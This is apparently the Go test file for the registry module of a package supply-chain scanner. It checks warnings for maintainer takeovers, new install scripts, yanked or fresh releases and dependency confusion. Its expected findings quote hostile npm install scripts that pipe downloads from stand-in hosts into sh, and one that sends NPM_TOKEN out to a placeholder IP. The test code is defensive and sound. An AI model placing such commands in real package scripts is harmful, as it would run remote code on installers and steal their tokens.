package registry

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sapperhq/sapper/internal/finding"
)

// now is the time of every test: the fixtures' "fresh" versions are hours
// or days older.
var now = time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)

// fake serves testdata/ the way the registries answer:
//
//	/npm/{escaped name}                 testdata/npm/{escaped name}.json
//	/pypi/pypi/{name}/json              testdata/pypi/{name}.json
//	/pypi/pypi/{name}/{version}/json    testdata/pypi/{name}@{version}.json
//	/crates/api/v1/crates/{name}        testdata/crates/{name}.json
type fake struct {
	srv  *httptest.Server
	mu   sync.Mutex
	hits []string // escaped paths asked for
	// handle, when set, answers instead of the files.
	handle http.HandlerFunc
}

func (f *fake) requests() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.hits...)
}

var (
	pypiProjectPath = regexp.MustCompile(`^/pypi/pypi/([^/]+)/json$`)
	pypiReleasePath = regexp.MustCompile(`^/pypi/pypi/([^/]+)/([^/]+)/json$`)
	cratePath       = regexp.MustCompile(`^/crates/api/v1/crates/([^/]+)$`)
	npmPath         = regexp.MustCompile(`^/npm/([^/]+)$`)
)

func (f *fake) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	path := r.URL.EscapedPath()
	f.mu.Lock()
	f.hits = append(f.hits, path)
	f.mu.Unlock()
	if r.Header.Get("User-Agent") != UserAgent {
		http.Error(w, "no user agent", http.StatusForbidden)
		return
	}
	if f.handle != nil {
		f.handle(w, r)
		return
	}
	if r.Header.Get("Accept") != "application/json" {
		http.Error(w, "want application/json", http.StatusNotAcceptable)
		return
	}
	var file string
	if m := npmPath.FindStringSubmatch(path); m != nil {
		file = "npm/" + m[1] + ".json"
	} else if m := pypiProjectPath.FindStringSubmatch(path); m != nil {
		file = "pypi/" + m[1] + ".json"
	} else if m := pypiReleasePath.FindStringSubmatch(path); m != nil {
		file = "pypi/" + m[1] + "@" + m[2] + ".json"
	} else if m := cratePath.FindStringSubmatch(path); m != nil {
		file = "crates/" + m[1] + ".json"
	}
	if file == "" || strings.Contains(file, "..") {
		http.NotFound(w, r)
		return
	}
	b, err := os.ReadFile(filepath.Join("testdata", file))
	if err != nil {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(b)
}

// newFake returns a client of a fake registry, without a cache.
func newFake(t *testing.T) (*Client, *fake) {
	t.Helper()
	f := &fake{}
	f.srv = httptest.NewServer(f)
	t.Cleanup(f.srv.Close)
	c := New("")
	c.NPM, c.PyPI, c.Crates = f.srv.URL+"/npm", f.srv.URL+"/pypi", f.srv.URL+"/crates"
	c.Now = func() time.Time { return now }
	return c, f
}

func warn(kind finding.Kind, sev finding.Severity, eco, name, version, summary string) finding.Finding {
	return finding.Finding{
		Kind: kind, Severity: sev, Action: finding.Warn, Summary: summary,
		Package: finding.Package{Ecosystem: eco, Name: name, Version: version},
	}
}

func TestSignals(t *testing.T) {
	const (
		low, medium, high = finding.SeverityLow, finding.SeverityMedium, finding.SeverityHigh
	)
	npm := func(name, version string, fs ...finding.Finding) (finding.Package, []finding.Finding) {
		return finding.Package{Ecosystem: "npm", Name: name, Version: version}, fs
	}
	type tc struct {
		pkg  finding.Package
		opt  Options
		want []finding.Finding
	}
	mk := func(pkg finding.Package, want []finding.Finding) tc { return tc{pkg: pkg, want: want} }
	tests := map[string]tc{
		"npm-plain":       mk(npm("plain", "1.1.0")),
		"npm-plain-first": mk(npm("plain", "1.0.0")),
		"npm-deprecated": mk(npm("deprecated", "1.0.0",
			warn(finding.Deprecated, low, "npm", "deprecated", "1.0.0", `deprecated: "this version is no longer supported, use 2.x"`))),
		"npm-deprecated-security": mk(npm("deprecated", "1.0.1",
			warn(finding.Deprecated, medium, "npm", "deprecated", "1.0.1", `deprecated: "critical security issue: upgrade to 1.0.2"`))),
		"npm-undeprecated": mk(npm("deprecated", "1.0.2")),
		"npm-takeover": mk(npm("takeover", "1.0.2",
			warn(finding.NewRelease, medium, "npm", "takeover", "1.0.2", "published 5 hours ago (younger than 72h)"),
			warn(finding.MaintainerChange, high, "npm", "takeover", "1.0.2",
				"publisher changed from alice to mallory, who never published this package before; maintainers replaced: alice -> mallory (since 1.0.1)"),
			withSnippet(warn(finding.InstallScript, high, "npm", "takeover", "1.0.2",
				`adds install script postinstall: "curl -s https://evil.example/x.sh | sh" (since 1.0.1)`),
				`postinstall: curl -s https://evil.example/x.sh | sh`),
		)),
		"npm-takeover-older": mk(npm("takeover", "1.0.1")),
		"npm-maintainer-publishes": mk(npm("team", "1.1.0",
			warn(finding.MaintainerChange, medium, "npm", "team", "1.1.0",
				"publisher changed from alice to bob, a maintainer who never published this package before (since 1.0.0)"))),
		"npm-publisher-returns": mk(npm("team", "1.2.0",
			warn(finding.MaintainerChange, low, "npm", "team", "1.2.0",
				"publisher changed from bob to alice, who published lower versions (since 1.1.0)"))),
		"npm-maintainer-added": mk(npm("team", "1.3.0",
			warn(finding.MaintainerChange, medium, "npm", "team", "1.3.0", "maintainers added carol (since 1.2.0)"))),
		"npm-maintainer-removed": mk(npm("team", "1.4.0",
			warn(finding.MaintainerChange, low, "npm", "team", "1.4.0", "maintainers removed carol (since 1.3.0)"))),
		"npm-canary-by-bot": mk(npm("team", "1.5.0-canary.1",
			warn(finding.MaintainerChange, high, "npm", "team", "1.5.0-canary.1",
				"publisher changed from alice to team-bot, who never published this package before (since 1.4.0)"))),
		// 1.5.0 is compared with 1.4.0, not with the bot's canary.
		"npm-stable-after-canary": mk(npm("team", "1.5.0")),
		// 0.9.9 came last but has no version below it: nothing to compare
		// publishers with.
		"npm-backport-without-previous": mk(npm("team", "0.9.9")),
		"npm-fresh": mk(npm("fresh", "0.0.1",
			warn(finding.NewRelease, medium, "npm", "fresh", "0.0.1", "published 2 days ago (younger than 72h)"),
			warn(finding.NewPackage, medium, "npm", "fresh", "0.0.1", "brand-new package: 0.0.1 is its only version, created 2 days ago"))),
		"npm-fresh-min-age-1d": {
			pkg: finding.Package{Ecosystem: "npm", Name: "fresh", Version: "0.0.1"},
			opt: Options{MinAge: 24 * time.Hour, NewPackageAge: -1},
		},
		"npm-fresh-min-age-off": {
			pkg: finding.Package{Ecosystem: "npm", Name: "fresh", Version: "0.0.1"},
			opt: Options{MinAge: -1, NewPackageAge: 24 * time.Hour},
		},
		"npm-script-added": mk(npm("scripts", "1.1.0",
			withSnippet(warn(finding.InstallScript, medium, "npm", "scripts", "1.1.0",
				`adds install script postinstall: "node setup.js" (since 1.0.0)`), "postinstall: node setup.js"))),
		"npm-script-kept": mk(npm("scripts", "1.2.0")),
		"npm-script-changed-to-download": mk(npm("scripts", "1.3.0",
			withSnippet(warn(finding.InstallScript, high, "npm", "scripts", "1.3.0",
				`changes install script postinstall from "node setup.js" to "node setup.js && wget -q http://198.51.100.7/p -O- | sh" (since 1.2.0)`),
				"postinstall: node setup.js && wget -q http://198.51.100.7/p -O- | sh"))),
		"npm-gypfile": mk(npm("scripts", "2.0.0",
			withSnippet(warn(finding.InstallScript, medium, "npm", "scripts", "2.0.0",
				`adds install script install: "node-gyp rebuild" (since 1.3.0)`), "install: node-gyp rebuild"))),
		"npm-gypfile-explicit": mk(npm("scripts", "2.1.0")),
		"npm-empty-preinstall": mk(npm("scripts", "2.2.0")),
		"npm-prepare-only":     mk(npm("scripts", "3.0.0")),
		"npm-first-version-install": mk(npm("firstinstall", "1.0.0",
			withSnippet(warn(finding.InstallScript, high, "npm", "firstinstall", "1.0.0",
				`the lowest version has install scripts: preinstall: "node -e \"require('https').get('https://203.0.113.9/'+process.env.NPM_TOKEN)\""`),
				`preinstall: node -e \"require('https').get('https://203.0.113.9/'+process.env.NPM_TOKEN)\"`))),
		"npm-scoped":        mk(npm("@acme/widgets", "1.0.0")),
		"npm-loose-version": mk(npm("plain", "v1.1.0")),
		"npm-legacy-shapes": mk(npm("legacy", "0.0.1")),
		// 0.0.4's previous version, 0.0.3, cannot be read: no comparison.
		"npm-legacy-unreadable-previous": mk(npm("legacy", "0.0.4")),
		"npm-legacy-deprecated-true": mk(npm("legacy", "0.0.2",
			warn(finding.Deprecated, low, "npm", "legacy", "0.0.2", "deprecated (no message)"))),

		"pypi-plain": {pkg: finding.Package{Ecosystem: "PyPI", Name: "requests", Version: "2.31.0"}},
		"pypi-yanked": {pkg: finding.Package{Ecosystem: "PyPI", Name: "requests", Version: "2.32.0"},
			want: []finding.Finding{warn(finding.Yanked, medium, "PyPI", "requests", "2.32.0",
				`yanked: "Yanked due to conflicts with CVE-2024-35195 mitigation"`)}},
		"pypi-files-yanked": {pkg: finding.Package{Ecosystem: "PyPI", Name: "filesyanked", Version: "3.0"},
			want: []finding.Finding{warn(finding.Yanked, medium, "PyPI", "filesyanked", "3.0", "yanked (no reason given)")}},
		"pypi-brand-new": {pkg: finding.Package{Ecosystem: "PyPI", Name: "Brand_New.Pkg", Version: "0.1.0"},
			want: []finding.Finding{
				warn(finding.NewRelease, medium, "PyPI", "Brand_New.Pkg", "0.1.0", "published 10 hours ago (younger than 72h)"),
				warn(finding.NewPackage, medium, "PyPI", "Brand_New.Pkg", "0.1.0", "brand-new package: 0.1.0 is its only version, created 10 hours ago"),
			}},
		"pypi-old-single":     {pkg: finding.Package{Ecosystem: "PyPI", Name: "OldSingle", Version: "1.0"}},
		"pypi-other-spelling": {pkg: finding.Package{Ecosystem: "PyPI", Name: "oldsingle", Version: "1.0.0"}},

		"crates-yanked-takeover": {pkg: finding.Package{Ecosystem: "crates.io", Name: "serde", Version: "1.0.2"},
			want: []finding.Finding{
				warn(finding.Yanked, medium, "crates.io", "serde", "1.0.2", `yanked: "published by mistake"`),
				warn(finding.NewRelease, medium, "crates.io", "serde", "1.0.2", "published 30 minutes ago (younger than 72h)"),
				warn(finding.MaintainerChange, high, "crates.io", "serde", "1.0.2",
					"publisher changed from dtolnay to mallory, who never published this package before (since 1.0.1)"),
			}},
		"crates-plain": {pkg: finding.Package{Ecosystem: "crates.io", Name: "serde", Version: "1.0.1"}},
		"crates-yanked-no-message": {pkg: finding.Package{Ecosystem: "crates.io", Name: "serde", Version: "0.9.0"},
			want: []finding.Finding{warn(finding.Yanked, medium, "crates.io", "serde", "0.9.0", "yanked (no reason given)")}},
		"crates-fresh": {pkg: finding.Package{Ecosystem: "crates.io", Name: "fresh-crate", Version: "0.1.0"},
			want: []finding.Finding{
				warn(finding.NewRelease, medium, "crates.io", "fresh-crate", "0.1.0", "published 50 minutes ago (younger than 72h)"),
				warn(finding.NewPackage, medium, "crates.io", "fresh-crate", "0.1.0", "brand-new package: 0.1.0 is its only version, created 50 minutes ago"),
			}},
	}
	c, _ := newFake(t)
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := c.Signals(context.Background(), tt.pkg, tt.opt)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Signals(%s) mismatch (-want +got):\n%s", tt.pkg, diff)
			}
		})
	}
}

func withSnippet(f finding.Finding, s string) finding.Finding {
	f.Snippet = s
	return f
}

// TestPyPISkipsProject: an old release cannot belong to a brand-new
// project, so the project is not fetched for it.
func TestPyPISkipsProject(t *testing.T) {
	c, f := newFake(t)
	if _, err := c.Signals(context.Background(), finding.Package{Ecosystem: "PyPI", Name: "requests", Version: "2.31.0"}, Options{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"/pypi/pypi/requests/2.31.0/json"}, f.requests()); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}

func TestRequestURLs(t *testing.T) {
	c, f := newFake(t)
	ctx := context.Background()
	c.Signals(ctx, finding.Package{Ecosystem: "npm", Name: "@acme/widgets", Version: "1.0.0"}, Options{})
	c.Signals(ctx, finding.Package{Ecosystem: "PyPI", Name: "Brand_New.Pkg", Version: "0.1.0"}, Options{})
	c.Signals(ctx, finding.Package{Ecosystem: "crates.io", Name: "serde", Version: "1.0.0+build.1"}, Options{})
	want := []string{
		"/npm/@acme%2fwidgets",
		"/pypi/pypi/brand-new-pkg/0.1.0/json",
		"/pypi/pypi/brand-new-pkg/json",
		"/crates/api/v1/crates/serde",
	}
	if diff := cmp.Diff(want, f.requests()); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}

func TestSignalsErrors(t *testing.T) {
	tests := []struct {
		name string
		pkg  finding.Package
		is   error
		want string // a part of the message
	}{
		{"unsupported", finding.Package{Ecosystem: "Go", Name: "golang.org/x/text", Version: "v0.3.7"}, ErrUnsupported, "registry signals not supported for Go"},
		{"no-version", finding.Package{Ecosystem: "npm", Name: "plain"}, nil, "needs an exact version"},
		{"npm-missing-package", finding.Package{Ecosystem: "npm", Name: "nonexistent", Version: "1.0.0"}, ErrNotFound, "/npm/nonexistent: package not found on the registry"},
		{"npm-missing-version", finding.Package{Ecosystem: "npm", Name: "plain", Version: "9.9.9"}, ErrNotFound, "version 9.9.9 not found on the registry"},
		{"npm-unpublished", finding.Package{Ecosystem: "npm", Name: "unpublished", Version: "0.0.1"}, ErrNotFound, "version 0.0.1 not found"},
		{"npm-truncated", finding.Package{Ecosystem: "npm", Name: "broken", Version: "1.0.0"}, nil, "/npm/broken: malformed packument: unexpected end of JSON input"},
		{"npm-array", finding.Package{Ecosystem: "npm", Name: "array", Version: "1.0.0"}, nil, "malformed packument: json: cannot unmarshal array"},
		{"npm-versions-array", finding.Package{Ecosystem: "npm", Name: "badversions", Version: "1.0.0"}, nil, "malformed packument: versions"},
		{"npm-version-not-object", finding.Package{Ecosystem: "npm", Name: "legacy", Version: "0.0.3"}, nil, `malformed packument: versions["0.0.3"]`},
		{"pypi-missing", finding.Package{Ecosystem: "PyPI", Name: "requests", Version: "9.9"}, ErrNotFound, "/pypi/pypi/requests/json: version 9.9 not found"},
		{"pypi-malformed", finding.Package{Ecosystem: "PyPI", Name: "malformed", Version: "1.0"}, nil, "malformed PyPI release JSON"},
		{"crates-missing-version", finding.Package{Ecosystem: "crates.io", Name: "serde", Version: "2.0.0"}, ErrNotFound, "version 2.0.0 not found"},
		{"crates-malformed", finding.Package{Ecosystem: "crates.io", Name: "nocrate", Version: "1.0.0"}, nil, "malformed crates.io crate JSON"},
	}
	c, _ := newFake(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := c.Signals(context.Background(), tt.pkg, Options{})
			if err == nil {
				t.Fatalf("Signals(%s) = %v, want an error", tt.pkg, got)
			}
			if tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("error %q does not wrap %q", err, tt.is)
			}
			if errors.Is(err, ErrUnreachable) {
				t.Errorf("error %q is unreachable", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not say %q", err, tt.want)
			}
		})
	}
}

// TestNamesChecked: names and versions that could change a URL's meaning
// are refused before any request.
func TestNamesChecked(t *testing.T) {
	c, f := newFake(t)
	bad := []finding.Package{
		{Ecosystem: "npm", Name: "../../etc/passwd", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a..b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a\x00b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a\nb", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "@scope/a/b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a/b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "@scope", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a?b", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "a%2fb", Version: "1.0.0"},
		{Ecosystem: "npm", Name: "", Version: "1.0.0"},
		{Ecosystem: "npm", Name: strings.Repeat("a", 215), Version: "1.0.0"},
		{Ecosystem: "npm", Name: "ok", Version: "1.0.0/../../x"},
		{Ecosystem: "npm", Name: "ok", Version: "1.0.0?x"},
		{Ecosystem: "PyPI", Name: "req/uests", Version: "1.0"},
		{Ecosystem: "PyPI", Name: "requests", Version: "../1.0"},
		{Ecosystem: "PyPI", Name: "requests", Version: "1.0 "},
		{Ecosystem: "crates.io", Name: "se.rde", Version: "1.0.0"},
		{Ecosystem: "crates.io", Name: "serde", Version: "1.0.0#x"},
	}
	for _, pkg := range bad {
		if _, err := c.Signals(context.Background(), pkg, Options{}); err == nil {
			t.Errorf("Signals(%q) succeeded", pkg)
		}
		if checkVersion(pkg.Version) != nil {
			continue // a bad version, a good name
		}
		if _, err := c.Exists(context.Background(), pkg.Ecosystem, pkg.Name); err == nil {
			t.Errorf("Exists(%q) succeeded", pkg.Name)
		}
	}
	if r := f.requests(); len(r) > 0 {
		t.Errorf("requests for bad names: %q", r)
	}
}

func TestExists(t *testing.T) {
	tests := []struct {
		eco, name string
		want      bool
	}{
		{"npm", "plain", true},
		{"npm", "@acme/widgets", true},
		{"npm", "@acme/private-thing", false},
		{"npm", "unpublished", false},
		{"PyPI", "requests", true},
		{"PyPI", "Brand_New.Pkg", true},
		{"PyPI", "not-on-pypi", false},
		{"crates.io", "serde", true},
		{"crates.io", "not-a-crate", false},
	}
	c, _ := newFake(t)
	for _, tt := range tests {
		got, err := c.Exists(context.Background(), tt.eco, tt.name)
		if err != nil || got != tt.want {
			t.Errorf("Exists(%s, %s) = %v, %v; want %v", tt.eco, tt.name, got, err, tt.want)
		}
	}
	if _, err := c.Exists(context.Background(), "Maven", "org.example:x"); !errors.Is(err, ErrUnsupported) {
		t.Errorf("Exists(Maven) error = %v, want ErrUnsupported", err)
	}
}

func TestDependencyConfusion(t *testing.T) {
	pkg := finding.Package{Ecosystem: "npm", Name: "@acme/widgets", Version: "1.0.0"}
	want := finding.Finding{
		Kind: finding.DependencyConfusion, Severity: finding.SeverityHigh, Action: finding.Warn, Package: pkg,
		Summary: "@acme/widgets is private by the configuration but exists on the public npm registry: an install may fetch the public package",
	}
	if diff := cmp.Diff(want, DependencyConfusion(pkg)); diff != "" {
		t.Errorf("DependencyConfusion mismatch (-want +got):\n%s", diff)
	}
}
